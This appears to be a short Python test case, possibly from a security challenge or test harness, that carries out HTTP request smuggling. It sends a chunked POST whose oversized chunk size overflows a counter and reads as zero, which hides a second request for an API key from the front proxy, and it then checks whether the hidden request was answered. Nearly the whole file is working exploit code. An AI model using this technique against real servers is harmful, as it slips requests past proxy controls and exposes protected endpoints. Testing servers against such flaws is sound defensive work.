# aim: have the server see a request where whoever stands before it saw none
# mechanism: a size of a chunk that is more than a counter holds, and so nothing
# server: body
# plain: naive

second = f"GET /v1/key HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\nConnection: close\r\n\r\n"


def attack():
    answered = raw(("POST /v1/sandboxes HTTP/1.1\r\nHost: localhost\r\n" + "Transfer-Encoding: chunked\r\n" + "\r\n" + "10000000000000000\r\n\r\n" + second).encode("latin-1"))
    return answers_in(answered) > 1 and "the hidden request was answered"


judge(attack)
